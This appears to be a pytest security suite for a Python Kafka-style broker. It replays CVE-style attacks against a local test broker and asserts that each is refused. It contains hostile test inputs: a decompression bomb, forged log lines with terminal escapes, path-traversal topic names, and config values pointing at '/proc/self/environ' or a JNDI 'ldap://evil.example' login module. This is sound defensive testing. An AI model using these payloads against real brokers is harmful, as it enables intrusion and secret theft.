"""Attacks on brokers and clients, by their kinds: those of CVEs that were published for Kafka and systems like it.

`ELSEWHERE` names the tests of a kind that stand with their subject. Here are the kinds that concern a whole broker: its
log tells everything (DEBUG) while they are tried.
"""

from __future__ import annotations

import ast
import asyncio
import json
import re
import secrets
import socket
import ssl
import stat
import time
import warnings
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kraftpy.client import Admin, BlockingAdmin, BlockingProducer, ErrorCode, KafkaError, NewTopic, ResourceType
from kraftpy.client.connection import Connection
from kraftpy.client.runtime import RealRuntime
from kraftpy.client.security import Login, Security
from kraftpy.protocol.apis import ApiKey
from kraftpy.protocol.frames import encode_request
from kraftpy.protocol.messages.alter_replica_log_dirs import (
    AlterReplicaLogDir,
    AlterReplicaLogDirsRequest,
    AlterReplicaLogDirTopic,
)
from kraftpy.protocol.messages.alter_user_scram_credentials import (
    AlterUserScramCredentialsRequest,
    ScramCredentialUpsertion,
)
from kraftpy.protocol.messages.api_versions import ApiVersionsRequest
from kraftpy.protocol.messages.create_acls import AclCreation, CreateAclsRequest
from kraftpy.protocol.messages.create_topics import CreatableTopic, CreateTopicsRequest
from kraftpy.protocol.messages.describe_configs import DescribeConfigsRequest, DescribeConfigsResource
from kraftpy.protocol.messages.find_coordinator import FindCoordinatorRequest
from kraftpy.protocol.messages.init_producer_id import InitProducerIdRequest
from kraftpy.protocol.messages.metadata import MetadataRequest, MetadataRequestTopic
from kraftpy.protocol.messages.produce import PartitionProduceData, ProduceRequest, TopicProduceData
from kraftpy.protocol.messages.sasl_authenticate import SaslAuthenticateRequest
from kraftpy.protocol.messages.sasl_handshake import SaslHandshakeRequest
from kraftpy.security.acls import Operation, PatternType, Permission
from kraftpy.security.acls import ResourceType as Kind
from kraftpy.security.oauthbearer import first_message
from kraftpy.security.plain import plain_message
from kraftpy.security.scram import MECHANISMS, credential_of, salted_password
from kraftpy.testing.ports import ReservedPorts
from tests.security.attacked_broker import (
    ADMIN_PASSWORD,
    CLIENT_SECRET,
    KEY_PASSWORD,
    NEXT_KEY_PASSWORD,
    NODE_PASSWORD,
    QUORUM_SECRET,
    TOKEN_KEY,
    USER_PASSWORD,
    AttackedBroker,
    encrypted,
    forms,
)
from tests.security.certificates import HOST, Certificates
from tests.security.guarded_broker import GuardedBroker
from tests.security.wire import BOUND_SECONDS, Wire
from tests.waiting import eventually

ROOT = Path(__file__).parents[2]
ELSEWHERE = {
    "identity taken from the client's text": [
        "tests/security/test_mechanisms.py::test_a_client_acts_as_nobody_else",
        "tests/security/test_json_web_tokens.py::test_nobody_acts_as_another",
        "tests/security/test_gssapi.py::test_nobody_acts_as_somebody_else",
    ],
    "a client poses as a broker": [
        "tests/security/test_rights.py::test_requests_between_brokers_are_refused_to_clients_whatever_their_rights",
        "tests/broker/test_malformed_input.py::test_a_client_may_not_fetch_as_a_replica",
    ],
    "nonces and proofs of SCRAM": [
        "tests/security/test_mechanisms.py::test_each_part_of_the_proof_is_checked_whole",
        "tests/security/test_mechanisms.py::test_a_broker_has_to_prove_that_it_knows_the_password",
        "tests/security/test_mechanisms.py::test_a_client_is_not_made_to_work_for_a_hostile_broker",
        "tests/security/test_mechanisms.py::test_a_credential_with_few_iterations_is_not_used",
    ],
    "replayed messages": [
        "tests/security/test_mechanisms.py::test_a_proof_of_another_exchange_proves_nothing",
        "tests/security/test_kerberos_listeners.py::test_a_token_counts_once",
    ],
    "algorithms of tokens confused, or none": [
        "tests/security/test_json_web_tokens.py::test_alg_none_is_refused",
        "tests/security/test_json_web_tokens.py::test_hs256_with_the_public_key_is_refused",
        "tests/security/test_json_web_tokens.py::test_a_key_serves_its_own_algorithms_only",
        "tests/security/test_json_web_tokens.py::test_a_header_does_not_say_where_its_key_is",
    ],
    "names of users found out": [
        "tests/security/test_mechanisms.py::test_an_unknown_name_is_challenged_like_a_known_one",
        "tests/security/test_sasl_listeners.py::test_wrong_passwords_and_unknown_names_are_answered_alike",
    ],
    "memory before the login": [
        "tests/security/test_sasl_listeners.py::test_requests_before_authentication_are_short",
        "tests/security/test_secure_quorum.py::test_nothing_but_a_login_is_taken_at_first",
        "tests/security/test_tls_listeners.py::test_silent_peers_and_half_handshakes_keep_nobody_out",
    ],
    "decompression without a bound": [
        "tests/protocol/test_hostile_compression.py",
        "tests/broker/test_hostile_records_wire.py",
    ],
    "another authority, or another host": [
        "tests/security/test_tls_listeners.py::test_a_certificate_of_another_authority_is_refused",
        "tests/security/test_sasl_listeners.py::test_our_client_trusts_no_other_authority_and_no_other_host",
        "tests/security/test_secure_quorum.py::test_a_stranger_gets_nothing",
    ],
    "classes loaded, and files read, by settings": [
        "tests/security/test_mechanisms.py::test_a_login_module_that_is_not_one_of_ours_is_refused",
        "tests/security/test_oauthbearer_listeners.py::test_what_proves_nothing_is_refused",
        "tests/security/test_renewed_certificates.py::"
        "test_certificates_that_cannot_be_used_are_refused_when_they_are_set",
    ],
    "rights that outlive their reason": [
        "tests/security/test_sasl_listeners.py::test_a_session_ends_unless_it_is_renewed",
        "tests/security/test_rights.py::test_a_fetch_that_waits_ends_if_the_right_is_taken_away",
        "tests/broker/test_link_sessions.py::test_nothing_is_taken_after_the_end_of_a_session",
    ],
    "one path without the check": [
        "tests/security/test_rights.py::test_every_api_that_is_served_is_in_the_table",
        "tests/security/test_rights.py::test_an_outsider_is_refused_and_learns_nothing",
    ],
    "another principal by authenticating again": [
        "tests/security/test_sasl_listeners.py::test_a_session_is_renewed_by_the_same_user_and_mechanism",
        "tests/broker/test_link_sessions.py::test_a_renewal_that_fails_closes_the_link",
    ],
    "ACLs that were deleted, or cover too much": [
        "tests/security/test_acl_index.py::test_it_decides_as_a_loop_over_all_bindings",
        "tests/security/test_acl_index.py::test_what_filters_select_is_deleted_and_survives_snapshots",
    ],
    "timing of comparisons": ["tests/security/test_mechanisms.py::test_secrets_are_compared_in_constant_time"],
}


@pytest.mark.parametrize("kind", ELSEWHERE)
def test_each_kind_has_its_tests(kind: str) -> None:
    for named in ELSEWHERE[kind]:
        file, _, name = named.partition("::")
        source = ast.parse((ROOT / file).read_text(encoding="utf-8"))
        tests = {each.name for each in ast.walk(source) if isinstance(each, ast.FunctionDef | ast.AsyncFunctionDef)}
        assert name in tests if name else any(each.startswith("test_") for each in tests), named


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackedBroker]:
    with ReservedPorts() as ports, pytest.MonkeyPatch.context() as patch:
        patch.setenv("KRAFTPY_LOG_LEVEL", "DEBUG")
        made = AttackedBroker(tmp_path_factory.mktemp("attacked"), ports)
        with made.provider, made.broker:
            yield made
            assert "Traceback" not in made.broker.log_text


# --- before the login ---------------------------------------------------------------------------------


def resident_bytes(process: int) -> int:
    text = Path(f"/proc/{process}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+) kB", text)[1]) * 1024  # type: ignore[index]


def test_memory_before_login(attacked: AttackedBroker) -> None:
    """An announced size takes no memory, and neither do counts in a request that is not decoded."""
    announced = (500_000).to_bytes(4, "big") + b"\0\x12\0\x04"
    before, wires = resident_bytes(attacked.broker.pid), []
    try:
        for _ in range(100):
            wires.append(Wire.to(attacked.port["clear"]))
            wires[-1].socket.sendall(announced)
        with Wire.to(attacked.port["clear"]) as wire:
            wire.send_frame(b"\0\x12\0\x00\0\0\0\x01\xff\xff" + b"\x7f\xff\xff\xff")
            with Wire.to(attacked.port["clear"]) as other:
                assert other.log_in("admin", ADMIN_PASSWORD).error_code == 0
        assert resident_bytes(attacked.broker.pid) - before < 20 << 20, "100 frames of 0.5 MB were announced"
    finally:
        for wire in wires:
            wire.socket.close()


def test_decompression_before_login(attacked: AttackedBroker) -> None:
    """A request of a stranger is not even decoded: the connection ends without an answer."""
    bomb = zlib.compress(bytes(100 << 20))
    partition = PartitionProduceData(index=0, records=bomb)
    produce = ProduceRequest(acks=1, timeout_ms=1, topic_data=[TopicProduceData(name="t", partition_data=[partition])])
    before = resident_bytes(attacked.broker.pid)
    with Wire.to(attacked.port["clear"]) as wire:
        assert wire.ask(ApiKey.PRODUCE, 9, produce) is None
    assert resident_bytes(attacked.broker.pid) - before < 20 << 20


@pytest.mark.parametrize("host", ["elsewhere.example", "other authority"])
async def test_wrong_host_name_or_authority(certificates: Certificates, tmp_path: Path, host: str) -> None:
    """Nothing of the credentials is sent before the certificate has been checked."""
    shown = Certificates(tmp_path).broker if host == "other authority" else certificates.issue("elsewhere", host)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(shown)
    with socket.create_server((HOST, 0)) as listening:
        listening.settimeout(BOUND_SECONDS)
        login = Login(mechanism="PLAIN", username="alice", password=USER_PASSWORD)
        opening = asyncio.create_task(
            Connection.open(
                RealRuntime(),
                HOST,
                listening.getsockname()[1],
                client_id="client",
                request_timeout_ms=20_000,
                setup_timeout_ms=20_000,
                security=Security(tls=certificates.client(), login=login),
            )
        )

        def serve() -> bytes:
            plain, _ = listening.accept()
            with plain:
                plain.settimeout(BOUND_SECONDS)
                try:
                    return context.wrap_socket(plain, server_side=True).recv(1000)
                except (ssl.SSLError, ConnectionError):
                    return b""

        assert await asyncio.to_thread(serve) == b""
        with pytest.raises(KafkaError, match=r"SSL handshake with .* failed: .*certificate verify failed"):
            await opening


# --- injection into logs ------------------------------------------------------------------------------

FORGED = "\r\n2026-01-01 00:00:00,000 CRITICAL kraftpy: forged\x1b[2J\x9b31m\u202e\u2028\x00\x7f"
LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ [\w.]+: |    |kraftpy")


def test_injection_into_logs(attacked: AttackedBroker) -> None:
    """Names that clients choose neither begin a line of the log or of the audit log, nor move a terminal's cursor."""
    hostile = [
        lambda wire: wire.handshake(f"PLAIN{FORGED}"),
        lambda wire: wire.handshake("PLAIN") and wire.token(plain_message(f"alice{FORGED}".replace("\0", ""), "x")),
        lambda wire: wire.handshake("SCRAM-SHA-256") and wire.token(f"n,,n=alice{FORGED},r=abc".encode()),
        lambda wire: (
            wire.handshake("OAUTHBEARER")
            and wire.token(first_message(attacked.provider.issuer.token(sub=f"alice{FORGED}"), {}))
        ),
        lambda wire: wire.ask(
            ApiKey.API_VERSIONS, 3, ApiVersionsRequest(client_software_name=f"x{FORGED}", client_software_version="1")
        ),
    ]
    for number, attempt in enumerate(hostile):  # one line a minute is logged about each address
        with Wire.to(attacked.port["clear"], f"127.9.9.{number + 1}") as wire:
            attempt(wire)  # type: ignore[no-untyped-call]
    with Wire.to(attacked.port["clear"]) as wire:
        assert wire.log_in("alice", USER_PASSWORD).error_code == 0
        named = MetadataRequestTopic(name=f"topic{FORGED}")
        wire.ask(ApiKey.METADATA, 12, MetadataRequest(topics=[named]))
        topic = CreatableTopic(name=f"topic{FORGED}", num_partitions=1, replication_factor=1)
        wire.ask(ApiKey.CREATE_TOPICS, 7, CreateTopicsRequest(topics=[topic]))
        for kind in (0, 1):
            key = FindCoordinatorRequest(key_type=kind, coordinator_keys=[f"group{FORGED}"])
            wire.ask(ApiKey.FIND_COORDINATOR, 4, key)
        resource = DescribeConfigsResource(resource_type=2, resource_name=f"topic{FORGED}")
        wire.ask(ApiKey.DESCRIBE_CONFIGS, 4, DescribeConfigsRequest(resources=[resource]))
    with BlockingAdmin(**attacked.options(client_id=f"client{FORGED}".replace("\0", ""))) as admin:
        for change in ({f"no.such{FORGED}": "1"}, {"log.retention.ms": f"1{FORGED}"}):
            with pytest.raises(KafkaError):
                admin.alter_configs({(ResourceType.TOPIC, f"topic{FORGED}"): change})
    context = attacked.certificates.client()
    context.check_hostname = False
    with (
        socket.create_connection((HOST, attacked.port["secure"]), BOUND_SECONDS) as plain,
        context.wrap_socket(plain, server_hostname="forged.example") as secured,
    ):
        secured.sendall(b"GET / HTTP/1.1\r\n\r\n")
        secured.recv(1000)
    lines = attacked.lines()
    assert any("forged" in line for line in lines), "something of it was logged"
    for line in [*lines, *attacked.audit.read_text(encoding="utf-8").split("\n")[:-1]]:
        assert line.isprintable()
        assert not line.startswith("2026-01-01 00:00:00,000 CRITICAL")
    assert [line for line in lines if not LINE.match(line)] == []
    audited = [json.loads(line) for line in attacked.audit.read_text(encoding="utf-8").split("\n")[:-1]]
    assert any(FORGED in str(each.get("resource", each)) or "forged" in str(each) for each in audited)


# --- path traversal and file disclosure ---------------------------------------------------------------

SECRET_LINE = "the first line of a secret file"


def test_path_traversal(attacked: AttackedBroker) -> None:
    """A name never becomes a path: of a topic that is created or asked for, as those of dead letters are; of a group,
    a user or a transaction; of a log directory.
    """
    outside = {path for path in attacked.directory.iterdir() if path.name != "audit.log"}
    before = set(attacked.files())
    with BlockingAdmin(**attacked.options()) as admin:
        for name in ("../escaped", "..", ".", "a/b", "/tmp/escaped", "a\0b", "a\\b", "~root", "%2e%2e%2fescaped", ""):
            with pytest.raises(KafkaError) as refused:
                admin.create_topics([NewTopic(name=name, num_partitions=1)])
            assert refused.value.code == ErrorCode.INVALID_TOPIC_EXCEPTION, name
        admin.create_topics([NewTopic(name="inside", num_partitions=1)])
    with Wire.to(attacked.port["clear"]) as wire:
        assert wire.log_in("admin", ADMIN_PASSWORD).error_code == 0
        for name in ("../escaped", "..", "a/b", "/tmp/escaped"):
            topics = [MetadataRequestTopic(name=name)]
            answer = wire.ask(ApiKey.METADATA, 12, MetadataRequest(topics=topics, allow_auto_topic_creation=True))
            assert answer.topics[0].error_code == ErrorCode.INVALID_TOPIC_EXCEPTION
            for kind in (0, 1):
                key = FindCoordinatorRequest(key_type=kind, coordinator_keys=[name])
                assert wire.ask(ApiKey.FIND_COORDINATOR, 4, key) is not None
            assert wire.ask(ApiKey.INIT_PRODUCER_ID, 4, InitProducerIdRequest(transactional_id=name)) is not None
        for path in ("/tmp", "../escaped", f"{attacked.directory}/data/logs/../escaped"):
            topic = AlterReplicaLogDirTopic(name="inside", partitions=[0])
            move = AlterReplicaLogDirsRequest(dirs=[AlterReplicaLogDir(path=path, topics=[topic])])
            answer = wire.ask(ApiKey.ALTER_REPLICA_LOG_DIRS, 2, move)
            assert answer.results[0].partitions[0].error_code == ErrorCode.LOG_DIR_NOT_FOUND
    assert {path for path in attacked.directory.iterdir() if path.name != "audit.log"} == outside
    made = {path.name for path in set(attacked.files()) - before}
    assert not any("escaped" in name for name in made)


async def test_file_disclosure_through_settings_of_clients(attacked: AttackedBroker) -> None:
    """A setting neither reads a file for a client, nor names a class, nor says what a file has in it."""
    secret = attacked.directory / "secret.txt"
    secret.write_text(f"{SECRET_LINE}\nkey={SECRET_LINE}\n")
    prefix = "listener.name.secure."
    jndi = "com.sun.security.auth.module.JndiLoginModule required user.provider.url=ldap://evil.example/a;"
    refused = [
        {f"{prefix}ssl.keystore.location": str(secret)},
        {f"{prefix}ssl.truststore.location": str(secret)},
        {f"{prefix}ssl.keystore.location": "/dev/zero"},
        {f"{prefix}ssl.keystore.location": "/proc/self/environ"},
        {f"{prefix}plain.sasl.jaas.config": jndi},
        {"sasl.jaas.config": jndi},
        {f"{prefix}oauthbearer.sasl.oauthbearer.jwks.endpoint.url": f"file://{secret}"},
        {"sasl.oauthbearer.jwks.endpoint.url": f"file://{secret}"},
        {f"{prefix}oauthbearer.sasl.oauthbearer.token.endpoint.url": f"file://{secret}"},
        {"org.apache.kafka.sasl.oauthbearer.allowed.files": str(secret)},
        {f"{prefix}sasl.server.callback.handler.class": "com.evil.Handler"},
    ]
    async with Admin(**attacked.options()) as admin:
        for change in refused:
            with pytest.raises(KafkaError) as error:
                await admin.alter_configs({(ResourceType.BROKER, "1"): dict(change)})
            assert SECRET_LINE not in str(error.value)
        await admin.create_topics([NewTopic(name="settings", num_partitions=1)])
        for value in (f"${{file:{secret}:key}}", "${env:PATH}", f"@{secret}"):
            with pytest.raises(KafkaError) as error:
                await admin.alter_configs({(ResourceType.TOPIC, "settings"): {"retention.ms": value}})
            assert SECRET_LINE not in str(error.value)
        found = await admin.describe_configs([(ResourceType.TOPIC, "settings"), (ResourceType.BROKER, "1")])
    assert SECRET_LINE not in str(found)
    assert SECRET_LINE not in attacked.broker.log_text


# --- secrets ------------------------------------------------------------------------------------------


def scram_login(attacked: AttackedBroker, mechanism: str, password: str, **more: Any) -> None:
    options = attacked.options(sasl_mechanism=mechanism, sasl_username="scram-user", sasl_password=password, **more)
    with BlockingAdmin(**options) as admin:
        admin.list_topics()


def test_secrets_in_logs_answers_and_files(attacked: AttackedBroker) -> None:
    """Logins by every mechanism, changed passwords and keys: no line, answer or audit record shows a secret."""
    password, token = f"scram-{secrets.token_hex(8)}", attacked.provider.issuer.token(sub="alice")
    shown = [
        ADMIN_PASSWORD, USER_PASSWORD, KEY_PASSWORD, NEXT_KEY_PASSWORD, TOKEN_KEY, QUORUM_SECRET, CLIENT_SECRET,
        NODE_PASSWORD, password, token, token.rpartition(".")[2],
    ]  # fmt: skip
    known = [each.encode() for each in shown]
    with BlockingAdmin(**attacked.options()) as admin:
        for mechanism in MECHANISMS.values():
            admin.set_scram_password("scram-user", password, mechanism=mechanism.name)
        made = admin.create_delegation_token()
        known += [made.hmac, made.password.encode()]
    for name in MECHANISMS:
        scram_login(attacked, name, password)
        with pytest.raises(KafkaError):
            scram_login(attacked, name, f"{password}-wrong")
    options = attacked.options(sasl_mechanism="OAUTHBEARER", sasl_oauthbearer_token_provider=lambda: token)
    with BlockingAdmin(**{**options, "sasl_username": None, "sasl_password": None}) as admin:
        admin.list_topics()
    with pytest.raises(KafkaError), BlockingAdmin(**attacked.options(user="alice", sasl_password=password)) as admin:
        admin.list_topics()
    keys = encrypted(attacked.certificates.issue("next", HOST), NEXT_KEY_PASSWORD)
    with BlockingAdmin(**attacked.options()) as admin:
        change: dict[str, str | None] = {
            "listener.name.secure.ssl.keystore.location": str(keys),
            "listener.name.secure.ssl.key.password": NEXT_KEY_PASSWORD,
        }
        admin.alter_configs({(ResourceType.BROKER, "1"): change})
        eventually(lambda: "SECURE has a new certificate" in attacked.broker.log_text)
        with pytest.raises(KafkaError) as refused:
            admin.alter_configs(
                {(ResourceType.BROKER, "1"): {"listener.name.secure.ssl.key.password": f"{password}-wrong"}}
            )
        assert password not in str(refused.value)
        admin.create_topics([NewTopic(name="produced", num_partitions=1)])
        described = str(admin.describe_configs([(ResourceType.BROKER, "1")]))
    with BlockingProducer(**attacked.options()) as producer:
        producer.send("produced", b"x")
    with Wire.to(attacked.port["clear"]) as wire:
        assert wire.log_in("admin", ADMIN_PASSWORD).error_code == 0
        scram = MECHANISMS["SCRAM-SHA-256"]
        salted = salted_password(scram, password, b"salt" * 8, 4096)
        credential = credential_of(scram, salted, b"salt" * 8, 4096)
        known += [salted, credential.stored_key, credential.server_key]
        upsertion = ScramCredentialUpsertion(
            name="salted", mechanism=scram.code, iterations=4096, salt=b"salt" * 8, salted_password=salted
        )
        changed = wire.ask(
            ApiKey.ALTER_USER_SCRAM_CREDENTIALS,
            0,
            AlterUserScramCredentialsRequest(deletions=[], upsertions=[upsertion]),
        )
        assert changed.results[0].error_code == 0
        resource = DescribeConfigsResource(resource_type=4, resource_name="1")
        wire.send(ApiKey.DESCRIBE_CONFIGS, 4, DescribeConfigsRequest(resources=[resource], include_synonyms=True))
        answer = wire.receive()
        assert answer is not None
    eventually(lambda: "DEBUG" in attacked.broker.log_text)
    told = {
        "the log": attacked.broker.log_text.encode(),
        "the audit log": attacked.audit.read_bytes(),
        "DescribeConfigs": described.encode() + answer,
        "the command line": Path(f"/proc/{attacked.broker.pid}/cmdline").read_bytes(),
    }
    for where, text in told.items():
        for secret in known:
            assert not any(form in text for form in forms(secret)), (where, secret)
    for path in attacked.files():
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path


ALLOWED_COMPARISONS = {
    "principal.name == token.owner",
    "self.options.get('tokenauth', '').lower() == 'true'",
    "tokens[position] != ('sign', ';')",
    "tokens[position + 1] != ('sign', '=')",
    "token.count('.') != 2",
    "read_header(token).algorithm != _NONE",
    "submission.nonce != self._nonce",
}
"""Comparisons of names, of words, and of a number that is no secret."""


def test_timing_of_secrets() -> None:
    """No secret is compared by `==` in any module that handles one."""
    words = r"passw|secret|hmac|stored_key|server_key|signature|proof|nonce|digest|salted|\bmac\b|token"
    secret = re.compile(words, re.IGNORECASE)
    found = set()
    for place in ("security", "broker/security", "broker/metadata", "broker/broker_proof.py", "client/login.py"):
        path = ROOT / "kraftpy" / place
        for file in [path] if path.suffix else sorted(path.rglob("*.py")):
            for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Compare) and any(isinstance(op, ast.Eq | ast.NotEq) for op in node.ops):
                    text = ast.unparse(node)
                    if secret.search(text) and "len(" not in text:
                        found.add(text)
    assert found <= ALLOWED_COMPARISONS


# --- rights and mechanisms ----------------------------------------------------------------------------


def test_privilege_by_prefixed_acls(guarded: GuardedBroker) -> None:
    """Whatever allows, one that denies wins; a prefix is not empty, and `*` is a wildcard only as a whole name."""
    named = guarded.new()
    session = guarded.session("alice")

    def error() -> int:
        topics = [MetadataRequestTopic(name=named.topic, topic_id=None)]
        found = session.ask(ApiKey.METADATA, MetadataRequest(topics=topics, allow_auto_topic_creation=False), 9)
        return int(found.topics[0].error_code)

    def add(name: str, pattern: PatternType, permission: Permission = Permission.ALLOW) -> None:
        guarded.add(Kind.TOPIC, name, Operation.DESCRIBE, permission, "alice", pattern)

    guarded.forget()
    try:
        assert error() == ErrorCode.TOPIC_AUTHORIZATION_FAILED
        for name, pattern in (("*", PatternType.PREFIXED), (named.topic + "0", PatternType.PREFIXED)):
            add(name, pattern)
            assert error() == ErrorCode.TOPIC_AUTHORIZATION_FAILED, name
        add("topic-", PatternType.PREFIXED)
        assert error() == ErrorCode.NONE
        for name, pattern in (
            (named.topic, PatternType.LITERAL), ("to", PatternType.PREFIXED), (named.topic, PatternType.PREFIXED),
            ("*", PatternType.LITERAL),
        ):  # fmt: skip
            guarded.forget()
            add("topic-", PatternType.PREFIXED)
            add(named.topic, PatternType.LITERAL)
            assert error() == ErrorCode.NONE
            add(name, pattern, Permission.DENY)
            assert error() == ErrorCode.TOPIC_AUTHORIZATION_FAILED, name
        empty = AclCreation(
            resource_type=Kind.TOPIC, resource_name="", resource_pattern_type=PatternType.PREFIXED,
            principal="User:alice", host="*", operation=Operation.ALL, permission_type=Permission.ALLOW,
        )  # fmt: skip
        (result,) = guarded.admin.ask(ApiKey.CREATE_ACLS, CreateAclsRequest(creations=[empty])).results
        assert result.error_code == ErrorCode.INVALID_REQUEST
    finally:
        guarded.forget()
        session.close()


def test_downgrade_of_the_mechanism(attacked: AttackedBroker) -> None:
    """A listener's mechanisms are the only ones; SCRAM's flags for channel binding are not overlooked."""
    for mechanism in ("GSSAPI", "ANONYMOUS", "plain", "SCRAM-SHA-1", "EXTERNAL", ""):
        with Wire.to(attacked.port["clear"]) as wire:
            assert wire.handshake(mechanism).error_code == ErrorCode.UNSUPPORTED_SASL_MECHANISM
            assert wire.is_closed()
    for flag in ("y", "p=tls-unique", "p=tls-exporter"):
        with Wire.to(attacked.port["clear"]) as wire:
            assert wire.handshake("SCRAM-SHA-256").error_code == 0
            answer = wire.token(f"{flag},,n=alice,r=abc".encode())
            assert answer.error_code == ErrorCode.SASL_AUTHENTICATION_FAILED
            assert wire.is_closed()
    context = attacked.certificates.client()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # the versions that are tried here are old
        context.minimum_version = ssl.TLSVersion.TLSv1
        context.maximum_version = ssl.TLSVersion.TLSv1_1
    context.set_ciphers("ALL:@SECLEVEL=0")
    with (
        socket.create_connection((HOST, attacked.port["secure"]), BOUND_SECONDS) as plain,
        pytest.raises((ssl.SSLError, ConnectionError)),
    ):
        context.wrap_socket(plain, server_hostname=HOST)


def test_state_after_a_failed_authentication(attacked: AttackedBroker) -> None:
    """Nothing that a client sent behind a login that failed is served, and a login before it counts no more."""
    with Wire.to(attacked.port["clear"]) as wire:
        assert wire.handshake("PLAIN").error_code == 0
        frames = [
            encode_request(ApiKey.SASL_AUTHENTICATE, 2, 7, "wire", SaslAuthenticateRequest(auth_bytes=token))
            for token in (plain_message("admin", "wrong"), plain_message("admin", ADMIN_PASSWORD))
        ]
        frames.insert(1, encode_request(ApiKey.SASL_HANDSHAKE, 1, 7, "wire", SaslHandshakeRequest(mechanism="PLAIN")))
        frames.append(encode_request(ApiKey.METADATA, 12, 7, "wire", MetadataRequest(topics=None)))
        wire.socket.sendall(b"".join(frames))
        answers = 0
        while wire.receive() is not None:
            answers += 1
        assert answers == 1, "the refusal"
    deadline = time.monotonic() + BOUND_SECONDS
    with Wire.to(attacked.port["clear"]) as wire:
        token = attacked.provider.issuer.token(sub="alice", exp=int(time.time()) + 30)
        assert wire.handshake("OAUTHBEARER").error_code == 0
        assert wire.token(first_message(token, {})).session_lifetime_ms > 0
        assert wire.is_served()
        assert wire.handshake("OAUTHBEARER").error_code == 0
        other = attacked.provider.issuer.token(sub="admin")
        wire.send(ApiKey.SASL_AUTHENTICATE, 2, SaslAuthenticateRequest(auth_bytes=first_message(other, {})))
        topic = CreatableTopic(name="as-admin", num_partitions=1, replication_factor=1)
        wire.send(ApiKey.CREATE_TOPICS, 7, CreateTopicsRequest(topics=[topic]))
        assert wire.receive() is not None
        assert wire.is_closed()
    assert time.monotonic() < deadline
    with BlockingAdmin(**attacked.options()) as admin:
        assert "as-admin" not in admin.list_topics()
